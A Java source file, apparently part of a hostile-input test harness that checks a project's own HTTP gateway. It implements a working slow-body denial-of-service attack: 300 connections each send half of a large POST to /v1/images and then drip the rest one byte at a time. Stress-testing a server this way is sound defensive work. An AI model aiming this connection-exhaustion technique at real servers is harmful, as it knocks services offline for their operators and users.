package dev.coatcheck.cli.hostile.attack;

import dev.coatcheck.cli.hostile.wire.Http1;
import java.io.IOException;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;

/** 300 connections at which a body comes byte by byte, behind a first half that came at once. */
final class SlowBodies implements Attack {

  private static final int CONNECTIONS = 300;
  private static final int PAUSE_MILLIS = 50;
  private static final int BODY_BYTES = 60_000;

  @Override
  public String name() {
    return "slow bodies";
  }

  @Override
  public Set<Door> doors() {
    return Set.of(Door.GATEWAY_HTTP);
  }

  @Override
  public void strike(Attacker attacker) throws IOException, InterruptedException {
    String begun =
        """
        POST /v1/images HTTP/1.1\r
        Host: localhost\r
        Content-Type: application/json\r
        Content-Length: %d\r
        \r
        {"spec": {"x": "%s\
        """
            .formatted(BODY_BYTES, "x".repeat(BODY_BYTES / 2));
    List<Socket> sockets = new ArrayList<>();
    for (int i = 0; i < CONNECTIONS; i++) {
      Socket socket = attacker.connect();
      Http1.send(socket, begun);
      sockets.add(socket);
    }
    while (!attacker.isOver()) {
      for (Socket socket : List.copyOf(sockets)) {
        try {
          Http1.send(socket, "x");
        } catch (IOException e) {
          sockets.remove(socket); // the server does not wait for ever
        }
      }
      Thread.sleep(PAUSE_MILLIS);
    }
  }
}
